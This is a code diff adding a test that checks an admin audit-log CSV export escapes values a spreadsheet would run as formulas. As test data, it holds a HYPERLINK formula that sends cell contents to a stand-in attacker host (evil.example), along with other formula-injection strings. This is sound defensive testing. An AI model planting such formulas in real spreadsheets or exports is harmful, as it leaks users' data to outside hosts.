@@ -123,6 +123,21 @@ describe("the audit log's CSV", () => {
       after: { type: "record", id: "9001", rows: 1, cut: false },
     });
   });
+
+  it("writes every logged text a spreadsheet would run as a formula with an apostrophe in front", async () => {
+    const admin = await owner();
+    const actor = { id: admin.id, username: "@SUM(A1:A9)", ip: "+44", permission: "catalogue.edit" };
+    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+    shop.s.audit.record(actor, { entityType: "record", entityId: "'=9002", action: "+renamed", after: { title } });
+    const response = await csvLoader(args("/admin/audit-log.csv?type=record&id='%3D9002", admin.cookie));
+    const [header, row] = parseCsv(await response.text(), { bom: true }) as string[][];
+    const cell = (column: string) => row![header!.indexOf(column)];
+    expect(cell("Who")).toBe("'@SUM(A1:A9)");
+    expect(cell("From")).toBe("'+44");
+    expect(cell("Thing id")).toBe("''=9002");
+    expect(cell("Action")).toBe("'+renamed");
+    expect(cell("After")).toBe(`title: ${title}`);
+  });
 });
 
 describe("every export of shop data", () => {
